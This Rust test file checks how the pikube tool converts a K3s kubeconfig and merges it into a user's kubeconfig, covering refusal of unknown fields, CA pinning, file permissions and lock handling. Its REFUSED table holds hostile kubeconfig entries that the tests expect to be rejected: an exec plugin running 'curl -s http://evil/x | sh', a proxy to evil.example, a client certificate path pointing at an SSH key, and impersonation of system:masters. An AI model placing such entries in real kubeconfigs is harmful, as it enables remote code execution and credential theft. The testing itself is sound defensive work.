//! The kubeconfig module against a realistic k3s.yaml and a kubeconfig already holding a
//! kind and an EKS cluster, with real files in temporary directories.

use std::ffi::OsStr;
use std::fs;
use std::os::unix::fs::{symlink, PermissionsExt};
use std::path::{Path, PathBuf};

use base64::Engine;
use pikube_cluster::kubeconfig::{
    for_cluster, from_server, kubeconfig_target, merge, merge_into_file, write_private, CaPin,
    Kubeconfig, KubeconfigError,
};
use pikube_cluster::state::LocalState;
use yaml_serde::Value;

const K3S_YAML: &str = include_str!("fixtures/k3s.yaml");
const OTHERS: &str = include_str!("fixtures/kube-config-others.yaml");
const SERVER: &str = "https://pi-1.lan:6443";
const CLIENT_KEY: &str = "RkFLRS1DTElFTlQtS0VZLVNFQ1JFVC1ET05PVC1MRUFL";

fn pi() -> Kubeconfig {
    for_cluster(K3S_YAML, "pi", SERVER).expect("fixture converts")
}

fn yaml(text: &str) -> Value {
    yaml_serde::from_str(text).expect("valid YAML")
}

fn named<'a>(doc: &'a Value, list: &str, name: &str) -> &'a Value {
    doc[list]
        .as_sequence()
        .expect("a list")
        .iter()
        .find(|e| e["name"].as_str() == Some(name))
        .unwrap_or_else(|| panic!("no {list} entry {name}"))
}

fn names(doc: &Value, list: &str) -> Vec<String> {
    doc[list]
        .as_sequence()
        .expect("a list")
        .iter()
        .map(|e| e["name"].as_str().expect("named").to_owned())
        .collect()
}

fn keys(doc: &Value) -> Vec<String> {
    doc.as_mapping()
        .expect("a mapping")
        .keys()
        .map(|k| k.as_str().expect("string key").to_owned())
        .collect()
}

#[test]
fn k3s_yaml_is_renamed_and_pointed_at_the_server() {
    let doc = yaml(&pi().to_yaml().unwrap());
    assert_eq!(doc["current-context"], "pi");
    assert_eq!(names(&doc, "clusters"), ["pi"]);
    assert_eq!(names(&doc, "users"), ["pi"]);
    assert_eq!(names(&doc, "contexts"), ["pi"]);
    let cluster = &named(&doc, "clusters", "pi")["cluster"];
    assert_eq!(cluster["server"], SERVER);
    assert_eq!(
        cluster["certificate-authority-data"],
        "RkFLRS1DQS1DRVJUSUZJQ0FURS1GT1ItVEVTVFMtT05MWQ=="
    );
    let context = &named(&doc, "contexts", "pi")["context"];
    assert_eq!(context["cluster"], "pi");
    assert_eq!(context["user"], "pi");
    assert_eq!(
        named(&doc, "users", "pi")["user"]["client-key-data"],
        CLIENT_KEY
    );
    // Fields this code has no business with are kept as k3s wrote them.
    assert_eq!(doc["kind"], "Config");
    assert_eq!(doc["apiVersion"], "v1");
    assert_eq!(doc["preferences"], Value::Mapping(Default::default()));
    assert_eq!(keys(&doc), keys(&yaml(K3S_YAML)));
}

#[test]
fn nothing_outside_the_three_entries_is_copied() {
    // Other entries and top-level fields are not K3s': they are left behind, not refused.
    let text = K3S_YAML.replace(
        "users:\n",
        "users:\n- name: other\n  user:\n    exec:\n      command: sh\n",
    ) + "x-future-field:\n  nested: [1, 2]\nextensions:\n- name: x\n  extension: {}\n";
    let doc = yaml(&for_cluster(&text, "pi", SERVER).unwrap().to_yaml().unwrap());
    assert_eq!(names(&doc, "users"), ["pi"]);
    assert_eq!(keys(&doc), keys(&yaml(K3S_YAML)));
    let merged = merge(OTHERS, &for_cluster(&text, "pi", SERVER).unwrap(), false).unwrap();
    assert!(!merged.contains("x-future-field"), "{merged}");
}

/// Lines added to k3s.yaml, after the line `after`, and the entry and field the refusal
/// must name.
const CLUSTER: &str = "    server: https://127.0.0.1:6443\n";
const USER: &str = "    client-key-data: RkFLRS1DTElFTlQtS0VZLVNFQ1JFVC1ET05PVC1MRUFL\n";
const CONTEXT: &str = "    user: default\n";

const REFUSED: &[(&str, &str, &str, &str)] = &[
    (
        USER,
        "    exec:\n      apiVersion: client.authentication.k8s.io/v1\n      command: sh\n      \
         args: [-c, \"curl -s http://evil/x | sh\"]\n",
        "users[default].user",
        "exec",
    ),
    (
        USER,
        "    auth-provider:\n      name: oidc\n      config: {idp-issuer-url: https://evil}\n",
        "users[default].user",
        "auth-provider",
    ),
    (
        USER,
        "    client-certificate: /home/pi/.ssh/id_ed25519\n",
        "users[default].user",
        "client-certificate",
    ),
    (
        USER,
        "    client-key: /tmp/key.pem\n",
        "users[default].user",
        "client-key",
    ),
    (
        USER,
        "    username: admin\n",
        "users[default].user",
        "username",
    ),
    (
        USER,
        "    password: hunter2\n",
        "users[default].user",
        "password",
    ),
    (
        USER,
        "    tokenFile: /tmp/token\n",
        "users[default].user",
        "tokenFile",
    ),
    (USER, "    as: system:admin\n", "users[default].user", "as"),
    (USER, "    as-uid: \"0\"\n", "users[default].user", "as-uid"),
    (
        USER,
        "    as-groups: [system:masters]\n",
        "users[default].user",
        "as-groups",
    ),
    (
        USER,
        "    as-user-extra: {scopes: [all]}\n",
        "users[default].user",
        "as-user-extra",
    ),
    (
        USER,
        "    extensions:\n    - name: x\n      extension: {}\n",
        "users[default].user",
        "extensions",
    ),
    (
        USER,
        "    x-unknown: 1\n",
        "users[default].user",
        "x-unknown",
    ),
    (
        CLUSTER,
        "    insecure-skip-tls-verify: true\n",
        "clusters[default].cluster",
        "insecure-skip-tls-verify",
    ),
    (
        CLUSTER,
        "    proxy-url: socks5://evil.example:1080\n",
        "clusters[default].cluster",
        "proxy-url",
    ),
    (
        CLUSTER,
        "    tls-server-name: evil.example\n",
        "clusters[default].cluster",
        "tls-server-name",
    ),
    (
        CLUSTER,
        "    certificate-authority: /tmp/evil-ca.pem\n",
        "clusters[default].cluster",
        "certificate-authority",
    ),
    (
        CLUSTER,
        "    disable-compression: true\n",
        "clusters[default].cluster",
        "disable-compression",
    ),
    (
        CLUSTER,
        "    extensions:\n    - name: x\n      extension: {}\n",
        "clusters[default].cluster",
        "extensions",
    ),
    (
        CLUSTER,
        "  extensions: []\n",
        "clusters[default]",
        "extensions",
    ),
    (
        CONTEXT,
        "    namespace: kube-system\n",
        "contexts[default].context",
        "namespace",
    ),
    (
        CONTEXT,
        "    extensions: []\n",
        "contexts[default].context",
        "extensions",
    ),
];

#[test]
fn every_field_outside_the_allow_list_is_refused_and_named() {
    // Every row is tried, so a failure lists all the fields that got through.
    let mut wrong = Vec::new();
    for (after, added, entry, field) in REFUSED {
        assert!(K3S_YAML.contains(after), "{after}");
        let text = K3S_YAML.replace(after, &format!("{after}{added}"));
        let message = match for_cluster(&text, "pi", SERVER) {
            Ok(_) => "accepted".to_owned(),
            Err(error) => error.to_string(),
        };
        let named = message.contains(&format!("`{entry}` has `{field}`"))
            && message.contains("K3s does not write")
            && !message.contains(CLIENT_KEY);
        if !named {
            wrong.push(format!("{entry}.{field}: {message}"));
        }
    }
    assert!(
        wrong.is_empty(),
        "not refused as expected:\n{}",
        wrong.join("\n")
    );
}

#[test]
fn credentials_other_than_the_two_k3s_shapes_are_refused() {
    let cert = "    client-certificate-data: RkFLRS1DTElFTlQtQ0VSVElGSUNBVEUtRk9SLVRFU1RT\n";
    for (text, found) in [
        (
            K3S_YAML.replace(USER, ""),
            "a client certificate without its key",
        ),
        (
            K3S_YAML.replace(cert, ""),
            "a client key without its certificate",
        ),
        (
            K3S_YAML.replace(USER, &format!("{USER}    token: abc\n")),
            "both a client certificate and a token",
        ),
        (
            K3S_YAML.replace(&format!("  user:\n{cert}{USER}"), "  user: {}\n"),
            "`users[default].user` holds no credentials",
        ),
    ] {
        let message = k3s_error(&text);
        assert!(message.contains(found), "{found}: {message}");
    }
}

#[test]
fn a_missing_or_empty_ca_is_refused() {
    // Without it kubectl would trust the system's CAs for this cluster.
    let ca = "    certificate-authority-data: RkFLRS1DQS1DRVJUSUZJQ0FURS1GT1ItVEVTVFMtT05MWQ==\n";
    for replacement in ["", "    certificate-authority-data: \"\"\n"] {
        let message = k3s_error(&K3S_YAML.replace(ca, replacement));
        assert!(
            message.contains("`clusters[default].cluster` has no `certificate-authority-data`"),
            "{message}"
        );
    }
    let message =
        k3s_error(&K3S_YAML.replace(ca, "    certificate-authority-data: \"not base64!\"\n"));
    assert!(message.contains("is not base64"), "{message}");
}

#[test]
fn a_client_certificate_and_key_are_kept_and_nothing_else() {
    let doc = yaml(&pi().to_yaml().unwrap());
    assert_eq!(
        keys(&named(&doc, "users", "pi")["user"]),
        ["client-certificate-data", "client-key-data"]
    );
    assert_eq!(
        keys(&named(&doc, "clusters", "pi")["cluster"]),
        ["certificate-authority-data", "server"]
    );
    assert_eq!(
        keys(&named(&doc, "contexts", "pi")["context"]),
        ["cluster", "user"]
    );
}

#[test]
fn a_token_user_is_kept() {
    let token_user = K3S_YAML
        .replace(
            "    client-certificate-data: RkFLRS1DTElFTlQtQ0VSVElGSUNBVEUtRk9SLVRFU1RT\n",
            "",
        )
        .replace(USER, "    token: K10abc::server:secret\n");
    let config = for_cluster(&token_user, "pi", SERVER).unwrap();
    let doc = yaml(&merge(OTHERS, &config, false).unwrap());
    let user = &named(&doc, "users", "pi")["user"];
    assert_eq!(keys(user), ["token"]);
    assert_eq!(user["token"], "K10abc::server:secret");
}

#[test]
fn a_refused_k3s_yaml_leaves_the_users_kubeconfig_untouched() {
    // What `pikube kubeconfig --merge` does: convert, and only then merge into the file.
    let temp = tempfile::tempdir().unwrap();
    let path = temp.path().join("config");
    fs::write(&path, OTHERS).unwrap();
    let (after, added, _, _) = REFUSED[0];
    let tampered = K3S_YAML.replace(after, &format!("{after}{added}"));
    let converted = for_cluster(&tampered, "pi", SERVER);
    if let Ok(config) = &converted {
        merge_into_file(&path, config, true).unwrap();
    }
    assert!(converted.is_err(), "an exec plugin must be refused");
    assert_eq!(fs::read_to_string(&path).unwrap(), OTHERS, "left alone");
    assert_eq!(
        entries(temp.path()),
        ["config"],
        "no lock or temporary file left"
    );
}

/// A self-signed CA as K3s writes it to server-ca.crt, and `sha256sum` of that file.
const SERVER_CA: &str = include_str!("fixtures/server-ca.crt");
const SERVER_CA_SHA256: &str = "8cc412a18b3459e55e6616a866cb813c7e55e01bafdaeca4abac5393a8d8d911";
const K3S_PATH: &str = "/etc/rancher/k3s/k3s.yaml";

/// k3s.yaml with the fixture CA, as K3s would write it.
fn k3s_yaml_with_real_ca() -> String {
    let data = base64::engine::general_purpose::STANDARD.encode(SERVER_CA);
    K3S_YAML.replace("RkFLRS1DQS1DRVJUSUZJQ0FURS1GT1ItVEVTVFMtT05MWQ==", &data)
}

/// The pin as `pikube kubeconfig` reads it: from the token file in local state.
/// The kubeconfig the server `pi-1` of cluster `pi` serves, checked against `pin`.
fn from_pi_1(k3s_yaml: &str, pin: &CaPin) -> Result<Kubeconfig, KubeconfigError> {
    from_server(&"pi-1".parse().unwrap(), k3s_yaml, "pi", SERVER, pin)
}

fn pin_from_state(token: &str) -> (tempfile::TempDir, CaPin) {
    let dir = tempfile::tempdir().unwrap();
    let state = LocalState::new(dir.path(), "pi");
    state.token_adopting(Some(token)).unwrap();
    let path = state.dir().join("token");
    let pin = CaPin::from_token(state.existing_token().unwrap().as_ref(), &path).unwrap();
    (dir, pin)
}

#[test]
fn from_server_accepts_the_ca_the_full_token_pins() {
    let (_dir, pin) = pin_from_state(&format!("K10{SERVER_CA_SHA256}::server:s3cret"));
    assert!(matches!(pin, CaPin::Hash { .. }), "{pin:?}");
    let config = from_pi_1(&k3s_yaml_with_real_ca(), &pin).unwrap();
    let doc = yaml(&config.to_yaml().unwrap());
    let data = named(&doc, "clusters", "pi")["cluster"]["certificate-authority-data"]
        .as_str()
        .unwrap()
        .to_owned();
    let decoded = base64::engine::general_purpose::STANDARD
        .decode(data)
        .unwrap();
    assert_eq!(
        decoded,
        SERVER_CA.as_bytes(),
        "the CA is kept byte for byte"
    );
}

#[test]
fn from_server_refuses_another_ca_and_nothing_is_written() {
    let temp = tempfile::tempdir().unwrap();
    let path = temp.path().join("config");
    fs::write(&path, OTHERS).unwrap();
    let other_ca = format!("K10{}::server:s3cret", "0f".repeat(32));
    let (_dir, pin) = pin_from_state(&other_ca);

    let converted = from_pi_1(&k3s_yaml_with_real_ca(), &pin);
    if let Ok(config) = &converted {
        merge_into_file(&path, config, true).unwrap();
    }
    let error = converted.expect_err("a CA the token does not pin must be refused");
    let message = error.to_string();
    assert!(
        message.starts_with(&format!("pi-1: {K3S_PATH}: the CA in")),
        "{message}"
    );
    assert!(message.contains(SERVER_CA_SHA256), "{message}");
    assert!(message.contains(&"0f".repeat(32)), "{message}");
    assert!(message.contains(".pikube/pi/token"), "{message}");
    assert!(!message.contains("s3cret"), "{message}");
    assert_eq!(fs::read_to_string(&path).unwrap(), OTHERS, "left alone");
}

#[test]
fn from_server_names_the_node_file_entry_and_field_once() {
    let pin = CaPin::NoToken {
        token: PathBuf::from(".pikube/pi/token"),
    };
    let (after, added, _, _) = REFUSED[0];
    let tampered = K3S_YAML.replace(after, &format!("{after}{added}"));
    let error = from_pi_1(&tampered, &pin).unwrap_err();
    let message = error.to_string();
    assert!(
        message.starts_with(&format!(
            "pi-1: {K3S_PATH}: `users[default].user` has `exec`"
        )),
        "{message}"
    );
    // pikube prints an error with its sources: the problem must not come back as one.
    assert!(std::error::Error::source(&error).is_none());
}

#[test]
fn a_short_or_missing_token_checks_nothing_and_says_so() {
    let (_dir, pin) = pin_from_state(&"ab".repeat(32));
    assert!(matches!(pin, CaPin::ShortToken { .. }), "{pin:?}");
    from_pi_1(&k3s_yaml_with_real_ca(), &pin).unwrap();
    let reason = pin.unchecked_reason().expect("a reason to warn");
    assert!(reason.contains("short token"), "{reason}");

    let dir = tempfile::tempdir().unwrap();
    let state = LocalState::new(dir.path(), "pi");
    let path = state.dir().join("token");
    let pin = CaPin::from_token(state.existing_token().unwrap().as_ref(), &path).unwrap();
    assert!(matches!(pin, CaPin::NoToken { .. }), "{pin:?}");
    assert!(pin.unchecked_reason().unwrap().contains("no cluster token"));
}

#[test]
fn debug_output_keeps_the_client_key_out() {
    let config = pi();
    let shown = format!("{config:?}");
    assert!(shown.contains("pi") && shown.contains(SERVER), "{shown}");
    assert!(!shown.contains(CLIENT_KEY), "{shown}");
    assert_eq!(config.name(), "pi");
    assert_eq!(config.server(), SERVER);
}

#[test]
fn merge_keeps_other_clusters_untouched_and_in_order() {
    let before = yaml(OTHERS);
    let after = yaml(&merge(OTHERS, &pi(), false).unwrap());
    let eks = "arn:aws:eks:eu-west-1:123456789012:cluster/prod";
    assert_eq!(names(&after, "clusters"), ["kind-dev", eks, "pi"]);
    assert_eq!(names(&after, "users"), ["kind-dev", eks, "pi"]);
    assert_eq!(names(&after, "contexts"), ["kind-dev", eks, "pi"]);
    for list in ["clusters", "users", "contexts"] {
        for name in ["kind-dev", eks] {
            assert_eq!(
                named(&after, list, name),
                named(&before, list, name),
                "{list} {name}"
            );
        }
    }
    assert_eq!(
        named(&after, "users", eks)["user"]["exec"]["command"],
        "aws"
    );
    assert_eq!(keys(&after), keys(&before));
    for field in [
        "preferences",
        "extensions",
        "x-unknown-top-level",
        "kind",
        "apiVersion",
    ] {
        assert_eq!(after[field], before[field], "{field}");
    }
    assert_eq!(named(&after, "clusters", "pi")["cluster"]["server"], SERVER);
    assert_eq!(after["current-context"], "kind-dev", "kept without switch");
}

#[test]
fn strings_kubectl_would_read_as_booleans_stay_quoted() {
    // kubectl parses YAML 1.1, where a bare `yes` is `true`: an exec env value must keep its
    // quotes or kubectl fails to load the whole file.
    let merged = merge(OTHERS, &pi(), false).unwrap();
    assert!(merged.contains("value: \"yes\"\n"), "{merged}");
}

#[test]
fn merge_switches_context_when_asked() {
    let after = yaml(&merge(OTHERS, &pi(), true).unwrap());
    assert_eq!(after["current-context"], "pi");
}

#[test]
fn merge_sets_context_when_there_was_none() {
    let without = OTHERS.replace("current-context: kind-dev", "current-context: \"\"");
    let after = yaml(&merge(&without, &pi(), false).unwrap());
    assert_eq!(after["current-context"], "pi");
}

#[test]
fn merging_twice_gives_the_same_text() {
    let once = merge(OTHERS, &pi(), true).unwrap();
    let twice = merge(&once, &pi(), true).unwrap();
    assert_eq!(once, twice);
}

#[test]
fn merge_replaces_a_stale_entry_in_place() {
    let old = for_cluster(K3S_YAML, "pi", "https://old-address:6443").unwrap();
    let mut stale = yaml(&merge(OTHERS, &old, false).unwrap());
    // Move the stale `pi` entries to the front so "in place" is visible, and add a duplicate.
    for list in ["clusters", "users", "contexts"] {
        let seq = stale[list].as_sequence_mut().unwrap();
        let pi_entry = seq.pop().unwrap();
        seq.insert(0, pi_entry.clone());
        seq.push(pi_entry);
    }
    let stale = yaml_serde::to_string(&stale).unwrap();

    let after = yaml(&merge(&stale, &pi(), false).unwrap());
    let eks = "arn:aws:eks:eu-west-1:123456789012:cluster/prod";
    assert_eq!(names(&after, "clusters"), ["pi", "kind-dev", eks]);
    assert_eq!(names(&after, "contexts"), ["pi", "kind-dev", eks]);
    assert_eq!(named(&after, "clusters", "pi")["cluster"]["server"], SERVER);
}

#[test]
fn merge_into_nothing_makes_a_fresh_kubeconfig() {
    for existing in ["", "\n", "# only a comment\n"] {
        let doc = yaml(&merge(existing, &pi(), false).unwrap());
        assert_eq!(doc["apiVersion"], "v1");
        assert_eq!(doc["kind"], "Config");
        assert_eq!(doc["current-context"], "pi");
        assert_eq!(names(&doc, "clusters"), ["pi"]);
        assert_eq!(names(&doc, "users"), ["pi"]);
        assert_eq!(named(&doc, "contexts", "pi")["context"]["cluster"], "pi");
    }
}

#[test]
fn merge_creates_missing_lists() {
    let doc = yaml(&merge("apiVersion: v1\nkind: Config\nusers: null\n", &pi(), false).unwrap());
    assert_eq!(names(&doc, "users"), ["pi"]);
    assert_eq!(names(&doc, "clusters"), ["pi"]);
    assert_eq!(names(&doc, "contexts"), ["pi"]);
}

#[test]
fn kubeconfig_target_follows_kubectl() {
    let home = Path::new("/home/pi");
    let default = PathBuf::from("/home/pi/.kube/config");
    let target = |env: Option<&str>| kubeconfig_target(env.map(OsStr::new), home);
    assert_eq!(target(None), default);
    assert_eq!(target(Some("")), default);
    assert_eq!(target(Some("::")), default);
    assert_eq!(target(Some("/tmp/a.yaml")), PathBuf::from("/tmp/a.yaml"));
    assert_eq!(
        target(Some("/tmp/a.yaml:/tmp/b.yaml")),
        PathBuf::from("/tmp/a.yaml")
    );
    assert_eq!(target(Some(":/tmp/b.yaml")), PathBuf::from("/tmp/b.yaml"));
}

fn k3s_error(text: &str) -> String {
    let error = for_cluster(text, "pi", SERVER).expect_err("must be refused");
    let message = error.to_string();
    assert!(!message.contains(CLIENT_KEY), "{message}");
    message
}

#[test]
fn malformed_k3s_yaml_is_refused_with_a_reason() {
    assert!(k3s_error("clusters: [\n  - name: x\n").contains("k3s.yaml is not YAML"));
    assert!(k3s_error("- a\n- b\n").contains("top level is a list"));
    assert!(k3s_error("").contains("top level is empty"));

    let renamed = K3S_YAML.replace("  name: default\ncontexts", "  name: homelab\ncontexts");
    let message = k3s_error(&renamed);
    assert!(message.contains("no cluster named `default`"), "{message}");
    assert!(message.contains("found: `homelab`"), "{message}");

    let no_users = K3S_YAML.split("users:").next().unwrap().to_owned();
    let message = k3s_error(&no_users);
    assert!(message.contains("no user named `default`") && message.contains("no `users`"));

    let elsewhere = K3S_YAML.replace("    cluster: default\n", "    cluster: other\n");
    let message = k3s_error(&elsewhere);
    assert!(message.contains("refers to cluster `other`"), "{message}");

    let flat = K3S_YAML.replace(
        "- cluster:\n    certificate-authority-data: RkFLRS1DQS1DRVJUSUZJQ0FURS1GT1ItVEVTVFMtT05MWQ==\n    server: https://127.0.0.1:6443\n",
        "- cluster: oops\n",
    );
    let message = k3s_error(&flat);
    assert!(
        message.contains("`clusters[default].cluster` is a string"),
        "{message}"
    );

    assert!(matches!(
        for_cluster(K3S_YAML, "", SERVER),
        Err(KubeconfigError::EmptyName)
    ));
}

#[test]
fn malformed_existing_kubeconfig_is_refused_with_a_reason() {
    let error = merge("clusters: 5\n", &pi(), false)
        .unwrap_err()
        .to_string();
    assert!(
        error.contains("existing kubeconfig") && error.contains("`clusters` is a number"),
        "{error}"
    );
    let error = merge("just text", &pi(), false).unwrap_err().to_string();
    assert!(error.contains("top level is a string"), "{error}");
    let error = merge("a: [", &pi(), false).unwrap_err().to_string();
    assert!(
        error.contains("the existing kubeconfig is not YAML"),
        "{error}"
    );
}

fn mode(path: &Path) -> u32 {
    fs::metadata(path).unwrap().permissions().mode() & 0o777
}

fn entries(dir: &Path) -> Vec<String> {
    let mut names: Vec<String> = fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    names
}

#[test]
fn write_private_creates_a_private_dir_and_file() {
    let temp = tempfile::tempdir().unwrap();
    let path = temp.path().join("home/.kube/config");
    write_private(&path, "secret: 1\n").unwrap();
    assert_eq!(fs::read_to_string(&path).unwrap(), "secret: 1\n");
    assert_eq!(mode(&path), 0o600);
    assert_eq!(mode(&temp.path().join("home/.kube")), 0o700);
    assert_eq!(mode(&temp.path().join("home")), 0o700);
}

#[test]
fn write_private_replaces_an_open_file_with_a_private_one() {
    let temp = tempfile::tempdir().unwrap();
    let path = temp.path().join("config");
    fs::write(&path, "old\n").unwrap();
    fs::set_permissions(&path, fs::Permissions::from_mode(0o644)).unwrap();
    write_private(&path, "new\n").unwrap();
    assert_eq!(fs::read_to_string(&path).unwrap(), "new\n");
    assert_eq!(mode(&path), 0o600);
    assert_eq!(entries(temp.path()), ["config"], "no temporary file left");
}

#[test]
fn write_private_writes_through_a_symlink() {
    let temp = tempfile::tempdir().unwrap();
    let real = temp.path().join("dotfiles-kubeconfig");
    fs::write(&real, "old\n").unwrap();
    let link = temp.path().join("config");
    symlink(&real, &link).unwrap();
    write_private(&link, "new\n").unwrap();
    assert!(fs::symlink_metadata(&link)
        .unwrap()
        .file_type()
        .is_symlink());
    assert_eq!(fs::read_to_string(&real).unwrap(), "new\n");
    assert_eq!(mode(&real), 0o600);
}

#[test]
fn merge_into_file_creates_then_merges() {
    let temp = tempfile::tempdir().unwrap();
    let path = temp.path().join(".kube/config");
    merge_into_file(&path, &pi(), false).unwrap();
    assert_eq!(
        yaml(&fs::read_to_string(&path).unwrap())["current-context"],
        "pi"
    );
    assert_eq!(mode(&path), 0o600);

    fs::write(&path, OTHERS).unwrap();
    merge_into_file(&path, &pi(), false).unwrap();
    let doc = yaml(&fs::read_to_string(&path).unwrap());
    assert_eq!(doc["current-context"], "kind-dev");
    assert_eq!(names(&doc, "clusters").len(), 3);
}

#[test]
fn merge_into_file_names_the_file_on_error() {
    let temp = tempfile::tempdir().unwrap();
    let path = temp.path().join("config");
    fs::write(&path, "clusters: {}\n").unwrap();
    let error = merge_into_file(&path, &pi(), false)
        .unwrap_err()
        .to_string();
    assert!(error.starts_with(&path.display().to_string()), "{error}");
    assert!(error.contains("`clusters` is a mapping"), "{error}");
    assert_eq!(
        fs::read_to_string(&path).unwrap(),
        "clusters: {}\n",
        "left alone"
    );
}

#[test]
fn merge_into_file_waits_for_kubectls_lock_and_then_gives_up_naming_it() {
    let temp = tempfile::tempdir().unwrap();
    let path = temp.path().join("config");
    fs::write(&path, OTHERS).unwrap();
    // What client-go leaves while `kubectl config ...` rewrites the file.
    let lock = temp.path().join("config.lock");
    fs::write(&lock, "").unwrap();

    let error = merge_into_file(&path, &pi(), false).unwrap_err();
    assert!(
        matches!(&error, KubeconfigError::Locked { lock: named } if named == &lock),
        "{error:?}"
    );
    let message = error.to_string();
    assert!(message.contains("config.lock exists"), "{message}");
    assert!(message.contains("remove it"), "{message}");
    assert_eq!(fs::read_to_string(&path).unwrap(), OTHERS, "left alone");
    assert!(lock.exists(), "someone else's lock is not ours to remove");

    // Once the other writer is done, the merge goes through and leaves no lock behind.
    fs::remove_file(&lock).unwrap();
    merge_into_file(&path, &pi(), false).unwrap();
    assert_eq!(
        names(&yaml(&fs::read_to_string(&path).unwrap()), "clusters").len(),
        3
    );
    assert!(!lock.exists());
}
